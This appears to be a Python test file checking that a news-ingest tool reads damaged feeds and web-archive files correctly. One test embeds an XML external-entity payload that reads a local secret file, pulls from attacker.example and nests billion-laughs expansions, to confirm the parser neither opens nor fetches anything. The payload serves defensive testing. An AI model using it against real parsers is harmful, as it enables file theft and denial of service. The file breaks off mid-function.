"""Broken feeds and WARCs as they come from real crawlers and feed generators (issue 10).

Each file in ``realworld/`` is invented and written by ``realworld/make_fixtures.py`` (the second
batch by ``realworld/make_more_fixtures.py``; the third, ARC version 2, gzip members followed by
plain bytes and captures that are not articles, by ``realworld/make_third_fixtures.py``); the table
says what ingest must make of it: the articles it keeps and the rejections, with a reason, for what
it cannot use. Bad input never stops the batch and files are never changed.
"""

from __future__ import annotations

import hashlib
import importlib.util
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from groundwatch.records import Article, Rejection
from groundwatch.stages.ingest import iter_inputs
from groundwatch.stages.readers import split_extension
from groundwatch.stages.readers.feeds import parse_feed
from groundwatch.stages.readers.metadata import Doc
from realworld_support import assert_read_as_listed

HERE = Path(__file__).parent / "realworld"
PAGES = [("Brennock dam inspected", 1), ("Ferry to Callow Island delayed", 2), ("Pellworth school reopens", 3)]

# captures that are not articles, one summary per file (third batch)
SKIPPED = r"^\d+ capture\(s\) that are not articles skipped: "
CAPTURES = (r"^11 capture\(s\) that are not articles skipped: 1 robots\.txt, 1 image/jpeg, 1 image/png, "
            r"1 application/pdf, 1 HTTP 301, 1 HTTP 302, 1 HTTP 304, 1 HTTP 404, 1 revisit \(a pointer to an earlier "
            r"capture\), 1 text/css, 1 application/javascript$")

# file -> (ids of the articles read, [(article id suffix, "" for the file's own id, or None for no id;
#          reason pattern)])
TABLE: dict[str, tuple[list[str], list[tuple[str | None, str]]]] = {
    "rss091-netscape.rss": (["#1", "#2"], []),
    "rss10.rdf": (["#1", "#2"], []),
    "latin1-declared.rss": (["#1", "#2", "#3", "#4"], []),
    "cp1251-declared.rss": (["#1"], []),
    "gb2312-declared-gbk.rss": (["#1"], []),
    "declared-utf8-is-cp1252.rss": (["#1", "#2", "#3", "#4"], []),
    "declared-latin1-is-utf8.rss": (["#1", "#2", "#3", "#4"], []),
    "really-gzip.rss": (["#1", "#2", "#3"], []),
    "feed-gzip-no-extension": (["#1", "#2", "#3"], []),
    "unescaped-ampersand.rss": (["#1", "#2", "#3", "#4"], []),
    "html-entities.rss": (["#1", "#2", "#3", "#4"], []),
    "external-entity.rss": (["#1", "#2", "#3", "#4"], []),
    "billion-laughs.rss": (["#1", "#2", "#3", "#4"], []),
    "truncated.rss": (["#1", "#2"], [("#3", r"item 3: cut short \(the file ends inside this item; 2 complete")]),
    "summary-and-link.rss": (["#1"], [("#2", r"item 2: no text .*its link https://courier\.example/link-only")]),
    "one-gzip-member.warc.gz": (["#1", "#2", "#3"], []),
    "members-across-records.warc.gz": (["#1", "#2", "#3"], []),
    "clipped-record.warc": (["#1", "#2"], [("#3", r"record 3: cut short, the file ends 226 byte\(s\) before")]),
    "clipped-record.warc.gz": (["#1", "#2"], [(None, r"truncated WARC: the file ends inside the header of the "
                                                      r"record at byte \d+ \(gzip stream ends in the middle")]),
    "clipped-header.warc": (["#1", "#2"], [(None, r"truncated WARC: the file ends inside the header of the "
                                                  r"record at byte 1677; 2 article")]),
    "revisits.warc": (["#1", "#2", "#3"], [("", SKIPPED + r"2 revisit \(a pointer to an earlier capture\)$")]),
    "chunked-and-gzip-payloads.warc": (["#1", "#2", "#3"], []),
    "mislabelled-payloads.warc": (["#1", "#2", "#3"], []),
    "non-html-responses.warc": (["#1"], [
        ("", SKIPPED + r"1 application/pdf, 1 application/json, 1 image/png, 1 HTTP 301$")]),
    "wrong-content-length.warc": (["#1", "#2", "#3"], []),
    "content-length-too-long.warc": (["#1", "#2", "#3"], [
        ("", r"^broken WARC: bytes 2019-2507 are not a WARC record .*reading resumed at the next record header")]),
    "lf-only-headers.warc": (["#1", "#2", "#3"], []),
    "corrupt-gzip-member.warc.gz": (["#1", "#2"], [("", r"^corrupt gzip data \(.*\) after decompressed byte 834; "
                                                        r"reading resumed at the next gzip member")]),
    "nul-padded.warc.gz": (["#1", "#2", "#3"], []),
    "legacy.arc": (["#1", "#2", "#3"], []),
    "legacy-gz.arc.gz": (["#1", "#2", "#3"], []),
    "bom-and-blank-line-first.rss": (["#1", "#2", "#3"], []),
    "utf16-no-bom.rss": (["#1"], []),
    "whole-page-in-cdata.rss": (["#1"], []),
    # feed dialects and generator habits
    "rss090.rdf": (["#1"], [("#2", r"item 2: no text .*its link https://bulletin\.example/bridge")]),
    "rss092-untitled.rss": (["#1", "#2"], []),
    "atom03-modes.atom": (["#1", "#2", "#3"], []),
    "atom10-xml-base.atom": (["#1", "#2"], []),
    "content-encoded.rss": (["#1", "#2"], []),
    "php-warning-first.rss": (["#1", "#2", "#3"], []),
    "control-characters.rss": (["#1", "#2", "#3", "#4"], []),
    "items-outside-channel.rss": (["#1", "#2", "#3"], []),
    "naked-markup-item.rss": (["#1", "#2", "#3", "#4"], []),
    "cut-between-items.rss": (["#1", "#2", "#3"], []),
    "undeclared-windows1255.rss": (["#1"], []),
    "undeclared-big5.rss": (["#1"], []),
    "undeclared-euc-kr.rss": (["#1"], []),
    "date-dialects.rss": ([f"#{i}" for i in range(1, 8)], []),
    "bom-beats-declaration.rss": (["#1", "#2", "#3", "#4"], []),
    "declared-latin1-is-cp1251.rss": (["#1"], []),
    "double-escaped.rss": (["#1", "#2"], []),
    "utf16-be-with-bom.rss": (["#1", "#2", "#3", "#4"], []),
    "mangled-link.rss": (["#1", "#2"], []),
    "charrefs-out-of-range.rss": (["#1", "#2", "#3", "#4"], []),
    "nul-padded-feed.rss": (["#1", "#2", "#3"], []),
    "relative-links.atom": (["#1"], []),
    "plain-text-paragraphs.rss": (["#1"], []),
    "atom-id-as-link.atom": (["#1", "#2"], []),
    "news-sitemap.xml": ([], [(None, r"^a sitemap, not a feed: it lists 1 page address\(es\) and no article text")]),
    "sitemap-index.xml": ([], [(None, r"^a sitemap index, not a feed: it lists 2 sitemap address\(es\)")]),
    "sitemap.xml.gz": ([], [(None, r"^a sitemap, not a feed: it lists 2 page address\(es\)")]),
    "link-list.txt": ([], [(None, r"^a list of 3 link\(s\), no article text")]),
    "news-api-response.json": (["#1", "#2"], []),
    "api-results.json": (["#1"], [("#2", r"^item 2: no text")]),
    "crawler-output.jsonl": (["#1", "#2", "#5"], [
        ("#3", r"^line 3: malformed JSON: Expecting ',' delimiter \(column 73\)"),
        ("#4", r"^line 4: no text: none of the keys")]),
    "jsonfeed-1.0.json": (["#1", "#2"], [("#3", r"item 3: no text .*its link https://daily\.example/photo")]),
    "jsonfeed-1.1.json": (["#1", "#3"], [("#2", r"^item 2: 'content_html' is a int, not a string")]),
    # WARC versions, record types and HTTP habits
    "versions-018-and-11.warc": (["#1", "#2", "#3"], []),
    "record-types.warc": (["#1", "#2", "#3"], [("", SKIPPED + r"1 image/png, 1 DNS lookup$")]),
    "response-without-http.warc": (["#1", "#2", "#3"], []),
    "status-lines.warc": (["#1", "#2", "#3"], [("", SKIPPED + r"1 HTTP 304$")]),
    "cc-news-style.warc.gz": (["#1", "#2", "#3"], []),
    "unlabelled-gzip-body.warc": (["#1", "#2"], []),
    "brotli-body.warc": (["#2"], [("#1", r"^record 1: HTTP body compressed as 'br' \(Content-Encoding\), which this "
                                          r"installation cannot decode")]),
    "bad-chunk-sizes.warc": (["#1", "#2"], []),
    "lowercase-fields.warc": (["#1", "#2", "#3"], []),
    "no-content-length.warc": (["#1", "#2"], [
        ("", r"^the record at byte 701 has no Content-Length, so where it ends is unknown: it was skipped to the next "
             r"record header at byte 1405")]),
    "gzipped-but-named.warc": (["#1", "#2", "#3"], [("", SKIPPED + r"1 HTTP 304$")]),
    "plain-but-named.warc.gz": (["#1", "#2", "#3"], []),
    "space-in-url.arc": (["#1", "#2", "#3"], []),
    "body-encodings.warc": (["#1", "#2", "#3"], []),
    "common-crawl.warc.wet.gz": (["#1", "#2", "#4"], [("#3", r"^record 3: empty text")]),
    "common-crawl.warc.wat.gz": ([], [(None, r"^no HTML responses: the WARC holds no 200 response with an HTML content "
                                             r"type \(records: 3 metadata, 1 warcinfo\)")]),
    # second batch (make_more_fixtures.py): 28 files, 17 read wrong before the fixes of this batch (plus the
    # JSON-LD-only page's date, missing before and after until its own fix); see MORE_BEFORE for what each gave
    "news-crawl.jsonl.bz2": (["#1", "#2", "#3"], []),
    "news-crawl-xz.jsonl.xz": (["#1", "#2", "#3"], []),
    "cut-crawl.jsonl.bz2": ([], [(None, r"^truncated or corrupt bzip2 after line 0")]),
    "export.json.gz": (["#1", "#2", "#3"], []),
    "array-named.jsonl": (["#1", "#2", "#3"], []),
    "pretty-objects.jsonl": (["#1", "#2", "#3"], []),
    "search-export.jsonl": (["#1", "#2", "#3"], []),
    "paragraph-lists.jsonl": (["#1", "#2", "#3"], []),
    "content-as-list.json": (["#1", "#2", "#3"], []),
    "utf16-powershell.jsonl": (["#1", "#2", "#3"], []),
    "cp1252-lines.jsonl": (["#1", "#2", "#3"], []),
    "cut-last-line.jsonl": (["#1", "#2", "#3"], [
        ("#4", r"^line 4: cut short \(the file ends inside this line, whose JSON is unfinished\); 3 line\(s\)")]),
    "saved-page.html.gz": ([""], []),
    "jsonld-only.html": ([""], []),
    "amp-page.html": ([""], []),
    "feed-saved-as.html": (["#1", "#2", "#3"], []),
    "atom-xhtml-prefixed.atom": (["#1", "#2", "#3"], []),
    "media-description.rss": (["#1", "#2", "#3"], []),
    "media-group.rss": (["#1", "#2", "#3"], []),
    "deflate-kinds.warc": (["#1", "#2"], []),
    "micro-dates-11.warc": (["#1", "#2", "#3"], []),
    "http2-status.warc": (["#1", "#2"], []),
    "angle-bracket-uri.warc": (["#1", "#2", "#3"], []),
    "truncated-payload.warc": (["#1", "#2"], []),  # WARC-Truncated: what the crawler kept is read
    "feed-served-as-html.warc": (["#2"], [("#1", r"^record 1: an RSS or Atom feed served as text/html, not a page")]),
    "folded-headers.warc": (["#1", "#2"], []),
    "meta-vs-header.warc": (["#1", "#2"], []),
    "segments.warc": (["#1", "#2"], []),  # its two segments joined (fifth batch)
    # HTTP and writer habits: 7 files, 1 read wrong before (blank lines before the first header gave a
    # "no Content-Length" rejection for byte 0)
    "te-chunked-not-chunked.warc": (["#1", "#2"], []),
    "status-line-only.warc": (["#1", "#2"], []),
    "blank-lines-first.warc": (["#1", "#2"], []),
    "lowercase-http-fields.warc": (["#1"], []),
    "xhtml-and-short-length.warc": (["#1", "#2"], []),
    "page-without-http.warc": (["#1"], []),
    "request-response-metadata.warc": (["#1"], []),
    # third batch (make_third_fixtures.py), see THIRD_BEFORE: ARC version 2 (4 files, 12 records read with a
    # wrong URL and date before), gzip members followed by bytes that are not gzip, captures that are not articles
    "arc2.arc": (["#1", "#2", "#3"], []),
    "arc2-gz.arc.gz": (["#1", "#2", "#3"], []),
    "arc2-dns.arc": (["#1", "#2", "#3"], [("", SKIPPED + r"1 DNS lookup$")]),
    "arc2-dns-gz.arc.gz": (["#1", "#2", "#3"], [("", SKIPPED + r"1 DNS lookup$")]),
    "plain-record-appended.warc.gz": (["#1", "#2", "#3"], []),
    "plain-record-between.warc.gz": (["#1", "#2", "#3"], []),
    "note-appended.warc.gz": (["#1", "#2"], [(None, r"^broken WARC: the bytes from 1390 to the end are not WARC "
                                                    r"records .*2 article\(s\) read before them were kept")]),
    "plain-then-gzip-body.warc.gz": (["#1", "#2", "#3"], [("", SKIPPED + r"1 image/gif$")]),
    "captures-not-articles.warc": (["#1", "#2"], [("", CAPTURES)]),
    "captures-not-articles.warc.gz": (["#1", "#2"], [("", CAPTURES)]),
    "only-images-and-redirects.warc": ([], [(None, r"^no HTML responses: .*\(records: 8 response, 1 revisit\); "
                                                   r"9 capture\(s\) that are not articles skipped: 1 robots\.txt")]),
}

#: What the third batch's files gave before its fixes, for the record.
THIRD_BEFORE = {
    "arc2.arc": "3 articles, each URL with the line's other fields glued on (%20-joined) and a date from the "
                "offset field (1900-12-31, 2009-12-31, 2999-12-31)",
    "arc2-gz.arc.gz": "the same 3 wrong URLs and dates",
    "arc2-dns.arc": "the same 3 wrong URLs and dates",
    "arc2-dns-gz.arc.gz": "the same 3 wrong URLs and dates",
    "plain-record-appended.warc.gz": "record 3 lost: 'unreadable WARC from byte 1390: corrupt gzip data'",
    "plain-record-between.warc.gz": "record 2 lost: 'corrupt gzip data ... reading resumed at the next gzip member'",
    "note-appended.warc.gz": "2 articles and 'unreadable WARC ...: corrupt gzip data' (said to be gzip damage)",
    "plain-then-gzip-body.warc.gz": "record 2 lost, and 3 rejections (a broken record, twice corrupt gzip data)",
    "captures-not-articles.warc": "2 articles; the 11 captures that are not articles skipped without a word",
    "captures-not-articles.warc.gz": "the same, silent",
    "only-images-and-redirects.warc": "'no HTML responses ... (records: 8 response, 1 revisit)': not what they were",
}

#: What the second batch's wrongly read files gave before its fixes (commit fbf7645), for the record.
MORE_BEFORE = {
    "news-crawl.jsonl.bz2": "unsupported file type .bz2 (looks like a bzip2 archive)",
    "news-crawl-xz.jsonl.xz": "unsupported file type .xz",
    "cut-crawl.jsonl.bz2": "unsupported file type .bz2",
    "export.json.gz": "unsupported file type .gz",
    "saved-page.html.gz": "unsupported file type .gz",
    "array-named.jsonl": "20 rejected lines (malformed JSON)",
    "pretty-objects.jsonl": "18 rejected lines (malformed JSON)",
    "search-export.jsonl": "3 x no text (the article under _source)",
    "paragraph-lists.jsonl": "3 x no text (a 'paragraphs' list)",
    "content-as-list.json": "3 x 'content' is a list, not a string",
    "utf16-powershell.jsonl": "4 rejected lines (not valid UTF-8, malformed JSON)",
    "cp1252-lines.jsonl": "3 x not valid UTF-8",
    "cut-last-line.jsonl": "line 4: malformed JSON: Unterminated string (not said to be cut short)",
    "feed-saved-as.html": "no main text (the feed's items not read)",
    "feed-served-as-html.warc": "record 1: no main text (not said to be a feed)",
    "meta-vs-header.warc": "record 2 decoded as Latin-1 (the server default) over its windows-1251 meta: mojibake",
    "segments.warc": "record 1 read as an article from its first 300 bytes (then, until the fifth batch, rejected "
                      "as one segment of a split capture)",
    "jsonld-only.html": "read, but without the date that only its JSON-LD gives",
}


def _read(name: str) -> tuple[list[Article], list[Rejection]]:
    path = HERE / name
    records = list(iter_inputs([path]))
    return ([r for r in records if isinstance(r, Article)], [r for r in records if isinstance(r, Rejection)])


def _stem(name: str) -> str:
    return split_extension(name)[0]


def test_table_covers_every_fixture() -> None:
    files = {p.name for p in HERE.iterdir()
             if p.is_file() and p.suffix != ".py" and not p.name.startswith((".", "__"))}  # fourth/: test_realworld4
    assert files == set(TABLE)


def test_fixtures_are_what_the_script_writes() -> None:
    spec = importlib.util.spec_from_file_location("make_fixtures", HERE / "make_fixtures.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    more_spec = importlib.util.spec_from_file_location("make_more_fixtures", HERE / "make_more_fixtures.py")
    assert more_spec is not None and more_spec.loader is not None
    more = importlib.util.module_from_spec(more_spec)
    more_spec.loader.exec_module(more)
    third_spec = importlib.util.spec_from_file_location("make_third_fixtures", HERE / "make_third_fixtures.py")
    assert third_spec is not None and third_spec.loader is not None
    third = importlib.util.module_from_spec(third_spec)
    third_spec.loader.exec_module(third)
    written = {**module.feeds(), **module.warcs(), **more.more(), **third.third()}
    assert not set(module.feeds()) & set(more.more())
    assert {name: (HERE / name).read_bytes() == data for name, data in written.items()} == dict.fromkeys(written, True)


@pytest.mark.issue(10)
@pytest.mark.parametrize("name", sorted(TABLE))
def test_what_is_read(name: str) -> None:
    before = hashlib.sha256((HERE / name).read_bytes()).hexdigest()
    articles, rejections = _read(name)
    assert_read_as_listed(_stem(name), articles, rejections, TABLE[name])
    assert hashlib.sha256((HERE / name).read_bytes()).hexdigest() == before  # never modified


@pytest.mark.issue(10)
@pytest.mark.parametrize(
    ("name", "title", "body"),
    [
        ("latin1-declared.rss", "Café fermé", "Le café de la place à Brennock est fermé après la crue"),
        ("cp1251-declared.rss", "Мост закрыт", "Мост через реку у Бреннока закрыт"),
        ("gb2312-declared-gbk.rss", "洪水过后", "陈国镕说学校将在周一复课。"),
        ("declared-utf8-is-cp1252.rss", "Quay “closed”", "is “closed” until Friday, the harbour master’s office"),
        ("declared-latin1-is-utf8.rss", "Café fermé", "a déclaré le maire."),
        ("html-entities.rss", "Hospital open", "open again, the café too."),
        ("rss091-netscape.rss", "Harbour wall mended", "spring tides — the café on the quay reopened."),
        ("unescaped-ampersand.rss", "Fish & chips", "Stalls selling fish & chips returned"),
        ("utf16-no-bom.rss", "Café fermé", "a déclaré le maire."),
    ],
)
def test_text_is_decoded_as_written(name: str, title: str, body: str) -> None:
    articles, _ = _read(name)
    first = next(a for a in articles if a.title == title)
    assert body in first.body


@pytest.mark.issue(10)
def test_feed_metadata_survives_the_forgiving_parser() -> None:
    articles, _ = _read("rss10.rdf")
    assert [(a.outlet, a.url, a.language) for a in articles] == [
        ("Ostrand Wire", "https://wire.example/1", "en"), ("Ostrand Wire", "https://wire.example/2", "en")]
    assert str(articles[0].published) == "2031-02-05"  # the date written, not shifted to UTC
    (ampersand,) = [a for a in _read("unescaped-ampersand.rss")[0] if a.title == "Fish & chips"]
    assert ampersand.url == "https://courier.example/fish?a=1&b=2"


@pytest.mark.issue(10)
def test_summary_only_item_keeps_its_link() -> None:
    (teaser,), _ = _read("summary-and-link.rss")
    assert (teaser.body, teaser.url) == ("Read how Pellworth rebuilt its bridge.", "https://courier.example/teaser")


@pytest.mark.issue(10)
def test_revisits_and_other_records_are_never_articles() -> None:
    articles, _ = _read("revisits.warc")
    assert [a.url for a in articles] == [f"https://courier.example/p{i}" for i in (1, 2, 3)]
    (page,), _ = _read("non-html-responses.warc")
    assert page.url == "https://courier.example/p3"
    encoded, _ = _read("chunked-and-gzip-payloads.warc")
    assert [a.title for a in encoded] == ["Brennock dam inspected", "Ferry to Callow Island delayed",
                                          "Pellworth school reopens"]
    assert all("Copyright" not in a.body and "\r\n" not in a.body for a in encoded)


@pytest.mark.issue(10)
def test_whole_page_in_a_feed_item_is_reduced_to_its_main_text() -> None:
    (item,), _ = _read("whole-page-in-cdata.rss")
    assert item.body.startswith("The pumping station at Brennock ran all night")
    assert "Home | Sections" not in item.body and "Copyright" not in item.body


@pytest.mark.issue(10)
def test_arc_records_are_read_like_warc_responses() -> None:
    for name in ("legacy.arc", "legacy-gz.arc.gz"):
        articles, _ = _read(name)
        assert [a.url for a in articles] == [f"https://courier.example/a{i}" for i in (1, 2, 3)]
        assert [a.title for a in articles] == [title for title, _ in PAGES]
        assert str(articles[0].published) == "2031-02-06"  # the capture date


@pytest.mark.issue(10)
@pytest.mark.parametrize("name", ["arc2.arc", "arc2-gz.arc.gz", "arc2-dns.arc", "arc2-dns-gz.arc.gz"])
def test_arc_version_2_lines_give_the_url_and_the_capture_date(name: str) -> None:
    articles, _ = _read(name)
    assert [a.url for a in articles] == [f"https://fenlight.example/{p}" for p in ("culvert", "ferry", "library")]
    assert {str(a.published) for a in articles} == {"2031-04-11"}


@contextmanager
def _watch_io() -> Iterator[list[tuple[str, Any]]]:
    """Every file open and network call made inside the block (audit hooks cannot be removed,
    so the hook only records while the block runs)."""
    events: list[tuple[str, Any]] = []
    active = [True]

    def hook(event: str, args: Any) -> None:
        if active[0] and (event in ("open", "os.open", "urllib.Request", "http.client.connect")
                          or event.startswith("socket.")):
            events.append((event, args))

    sys.addaudithook(hook)
    try:
        yield events
    finally:
        active[0] = False


@pytest.mark.issue(10)
def test_entities_are_neither_resolved_nor_fetched(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("KEEP-OUT-4471")
    data = (f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY local SYSTEM "file://{secret}">\n'
            f'<!ENTITY remote SYSTEM "http://attacker.example/x">\n<!ENTITY % dtd SYSTEM "http://attacker.example/d">'
            f'\n%dtd;\n<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>\n'
            f'<rss version="2.0"><channel><title>Pellworth Post</title>'
            f"<item><title>One</title><description>Rain in Pellworth. &local; &remote; &c;</description></item>"
            f"<item><title>Two</title><description>Sun in Pellworth.</description></item>"
            f"</channel></rss>").encode()
    parse_feed(b"<rss><channel><item><description>warm-up</description></item></channel></rss>").__next__()
    with _watch_io() as events:
        docs = list(parse_feed(data))
    assert events == []
    assert [type(d).__name__ for d in docs] == ["Doc", "Doc"]
    first = docs[0]
    assert isinstance(first, Doc)
    assert first.body.startswith("Rain in Pellworth.")
    assert "KEEP-OUT" not in first.body and "haha" not in first.body
    assert len(first.body) < 100  # nothing expanded


@pytest.mark.issue(10)
def test_feed_content_naming_a_path_is_not_opened(tmp_path: Path) -> None:
    secret = tmp_path / "feed.rss"
    secret.write_text("<rss><channel><item><description>from the other file</description></item></channel></rss>")
    with _watch_io() as events, pytest.raises(Exception, match="not a feed"):
        list(parse_feed(str(secret).encode()))  # feedparser would open a bytes "path" given as data
    assert events == []


@pytest.mark.issue(10)
def test_reading_resumes_after_a_broken_stretch() -> None:
    resumed, _ = _read("content-length-too-long.warc")
    # the third capture's header was swallowed by the second record; the fourth is read again
    assert [a.url for a in resumed] == [f"https://courier.example/p{i}" for i in (1, 2, 4)]
    assert all("WARC-" not in a.body for a in resumed)
    skipped, _ = _read("corrupt-gzip-member.warc.gz")
    assert [a.url for a in skipped] == ["https://courier.example/p1", "https://courier.example/p3"]


SLUICE = "Keepers at the Wendle weir opened three sluice gates at dawn on Sunday as the river rose."
RAIN = "Heavy rain flooded the lower streets of Tarrow overnight"
SANDBAGS = "Volunteers in Tarrow filled sandbags at the depot"
# file -> per article read, in order: (title, start of the body, date, url); None where the file has none
DETAILS: dict[str, list[tuple[str | None, str, str | None, str | None]]] = {
    "rss090.rdf": [("Shelters open", RAIN, None, "https://bulletin.example/shelters")],
    "rss092-untitled.rss": [(None, RAIN, None, None),
                            (None, "The Quenby library extended its opening hours", None, None)],
    "atom03-modes.atom": [("Shelters open", RAIN, "2031-02-04", "https://herald.example/1"),
                          ("Sandbags", SANDBAGS, "2031-02-05", "https://herald.example/2"),
                          ("Depot", "The depot at Hallsey will stay open all week.", "2031-02-06",
                           "https://herald.example/3")],
    "atom10-xml-base.atom": [("Quay reopens", RAIN, "2031-02-04", "https://herald.example/news/quay-reopens"),
                             ("Tide tables", "New tide tables for Hallsey harbour", "2031-02-06",
                              "https://herald.example/archive/tide.html")],
    "content-encoded.rss": [("Flood night", RAIN, None, "https://courier.example/flood"),
                            ("Teaser kept", "The Tarrow market reopens on Tuesday.", None,
                             "https://courier.example/teaser2")],
    "undeclared-windows1255.rss": [("Tarrow", "הגשם הכבד הציף את הרחובות", None, "https://tarrow.example/1")],
    "undeclared-big5.rss": [("Tarrow", "昨晚大雨淹沒了塔羅鎮的低窪街道", None, "https://tarrow.example/1")],
    "undeclared-euc-kr.rss": [("Tarrow", "어젯밤 폭우로 타로 시내의", None, "https://tarrow.example/1")],
    "declared-latin1-is-cp1251.rss": [("Убежища открыты", "Сильный дождь затопил нижние улицы Тарроу", "2031-02-04",
                                       "https://tarrow.example/ru")],
    "double-escaped.rss": [("Fish & chips ’n peas", "Stalls & carts returned to the Tarrow pier.", "2031-02-04",
                            "https://courier.example/fish2"),
                           ("Pier reopens", "The pier at Tarrow reopened.\n\nAnglers came back.", "2031-02-04",
                            "https://courier.example/pier")],
    "atom-id-as-link.atom": [("Id only", RAIN, "2031-02-06", "https://herald.example/2031/id-only"),
                             ("Out of line", "The Tarrow summary.", None, "https://herald.example/s")],
    "body-encodings.warc": [("Café reopens", "Café reopens\n\nThe café by the Pellworth quay reopened on Friday — ",
                             "2031-02-06", "https://courier.example/e1"),
                            (PAGES[1][0], PAGES[1][0], "2031-02-06", "https://courier.example/e2"),
                            (PAGES[2][0], PAGES[2][0], "2031-02-06", "https://courier.example/e3")],
    "charrefs-out-of-range.rss": [
        ("Gauge \ufffd broke", "The river gauge at Tarrow sent \ufffd and \ufffd before it failed.", "2031-02-04",
         "https://courier.example/gauge"),
        ("Dam inspected", "Engineers inspected", "2031-02-04", "https://courier.example/dam"),
        ("Ferry delayed", "The ferry", "2031-02-04", "https://courier.example/ferry"),
        ("School reopens", "The school", "2031-02-04", "https://courier.example/school")],
    "utf16-be-with-bom.rss": [("Café fermé", "Le café du port à Tarrow est fermé", "2031-02-04",
                               "https://courier.example/cafe2"),
                              ("Dam inspected", "Engineers", "2031-02-04", "https://courier.example/dam"),
                              ("Ferry delayed", "The ferry", "2031-02-04", "https://courier.example/ferry"),
                              ("School reopens", "The school", "2031-02-04", "https://courier.example/school")],
    "relative-links.atom": [("Relative", RAIN, "2031-02-06", "https://herald.example/2031/relative")],
    "plain-text-paragraphs.rss": [("Plain", f"{RAIN}, and the council opened two shelters.\n\n{SANDBAGS}",
                                   "2031-02-04", "https://courier.example/plain")],
    "date-dialects.rss": [(f"Date {i}", f"Report number {i} from", "2031-02-04", f"https://courier.example/d{i}")
                          for i in range(1, 8)],
    "news-api-response.json": [
        ("Shelters open", f"{RAIN}, and the council opened two shelters. Volunteers filled sandbags", "2031-02-04",
         "https://daily.example/api1"),
        ("Market", "The Quenby market reopens on Tuesday.", "2031-02-05", "https://daily.example/api2")],
    "api-results.json": [("Depot", SANDBAGS, "2031-02-06", None)],
    "crawler-output.jsonl": [("Shelters open", f"{RAIN}, and the council opened two shelters.\n\n{SANDBAGS}",
                              "2031-02-04", "https://daily.example/np1"),
                             ("Teaser only", "The Quenby market reopens on Tuesday.", "2031-02-05",
                              "https://daily.example/np2"),
                             ("Html body", f"{RAIN}, and the council opened two shelters.\n\n{SANDBAGS}",
                              "2031-02-06", "https://daily.example/np4")],
    "jsonfeed-1.0.json": [("Shelters open", RAIN, "2031-02-04", "https://daily.example/1"),
                          ("Market", "The Quenby market reopens on Tuesday.\n\nStallholders", "2031-02-05",
                           "https://elsewhere.example/m")],
    "jsonfeed-1.1.json": [(None, RAIN, "2031-02-04", "https://daily.example/a1"),
                          ("Sandbags", SANDBAGS, None, "https://daily.example/a3")],
    "record-types.warc": [(title, title, "2031-02-06", f"https://courier.example/r{i}")
                          for i, (title, _) in enumerate(PAGES, start=1)],
    "response-without-http.warc": [(title, title, "2031-02-06", f"https://courier.example/h{i}")
                                   for i, (title, _) in enumerate(PAGES, start=1)],
    "status-lines.warc": [(title, title, "2031-02-06", f"https://courier.example/s{i}")
                          for i, (title, _) in zip((1, 2, 4), PAGES, strict=True)],
    "cc-news-style.warc.gz": [("Brennock dam inspected", "Brennock dam inspected", "2031-02-06",
                               "https://courier.example/cc1"),
                              ("Ferry to Callow Island delayed", "Ferry to Callow Island delayed", "2031-02-06",
                               "https://courier.example/cc2"),
                              ("Café reopens in Pellworth", "Café reopens in Pellworth\n\nThe harbour café",
                               "2031-02-06", "https://courier.example/cc3")],
    "unlabelled-gzip-body.warc": [(PAGES[0][0], PAGES[0][0], "2031-02-06", "https://courier.example/g1"),
                                  (PAGES[1][0], PAGES[1][0], "2031-02-06", "https://courier.example/g2")],
    "no-content-length.warc": [(PAGES[0][0], PAGES[0][0], "2031-02-06", "https://courier.example/n1"),
                               (PAGES[2][0], PAGES[2][0], "2031-02-06", "https://courier.example/n3")],
    "common-crawl.warc.wet.gz": [(None, f"{title}\nHome | Region\n", "2031-02-06", f"https://courier.example/w{i}")
                                 for i, (title, _) in enumerate(PAGES, start=1)],
    "space-in-url.arc": [(title, title, "2031-02-06", f"https://courier.example/a%20page%20{i}")
                         for i, (title, _) in enumerate(PAGES, start=1)],
    "jsonld-only.html": [("Sluice gates opened", SLUICE, "2031-03-02", None)],
    "saved-page.html.gz": [("Sluice gates opened", "Sluice gates opened\n\n" + SLUICE, None, None)],
    "search-export.jsonl": [("Sluice gates opened", SLUICE, "2031-03-02", "https://vale.example/sluice"),
                            ("Bridge closed to lorries", "The old stone bridge", "2031-03-03",
                             "https://vale.example/bridge"),
                            ("Clinic hours extended", "The clinic in Ossery", "2031-03-04",
                             "https://vale.example/clinic")],
    "paragraph-lists.jsonl": [("Sluice gates opened", SLUICE + "\n\nFarmers downstream", "2031-03-02",
                               "https://vale.example/sluice"),
                              ("Bridge closed to lorries", "The old stone bridge", "2031-03-03",
                               "https://vale.example/bridge"),
                              ("Clinic hours extended", "The clinic in Ossery", "2031-03-04",
                               "https://vale.example/clinic")],
    "feed-saved-as.html": [("Sluice gates opened", SLUICE, None, "https://vale.example/sluice"),
                           ("Bridge closed to lorries", "The old stone bridge", None, "https://vale.example/bridge"),
                           ("Clinic hours extended", "The clinic in Ossery", None, "https://vale.example/clinic")],
    "angle-bracket-uri.warc": [(t, t, "2031-03-05", f"https://vale.example/{slug}") for t, slug in (
        ("Sluice gates opened", "sluice"), ("Bridge closed to lorries", "bridge"),
        ("Clinic hours extended", "clinic"))],
}


@pytest.mark.issue(10)
@pytest.mark.parametrize("name", sorted(DETAILS))
def test_each_article_read_as_written(name: str) -> None:
    articles, _ = _read(name)
    got = [(a.title, a.body[: len(start)], None if a.published is None else str(a.published), a.url)
           for a, (_, start, _, _) in zip(articles, DETAILS[name], strict=True)]
    assert got == DETAILS[name]


@pytest.mark.issue(10)
def test_dialect_bodies_are_whole_and_clean() -> None:
    (full, _), _ = _read("content-encoded.rss")
    assert SANDBAGS in full.body and "teaser" not in full.body  # content:encoded wins over the description
    (atom, _), _ = _read("atom10-xml-base.atom")
    assert SANDBAGS in atom.body and "<p>" not in atom.body
    pumps = _read("control-characters.rss")[0][0]
    assert pumps.body == "The pumps at Brennock ran all night and kept the streets dry."
    warning = _read("naked-markup-item.rss")[0][1]
    assert (warning.title, warning.body.replace("\n\n", " ")) == ("Warning", "A flood warning stays in force for "
                                                                              "the Tarrow valley.")
    cafe = _read("bom-beats-declaration.rss")[0][0]
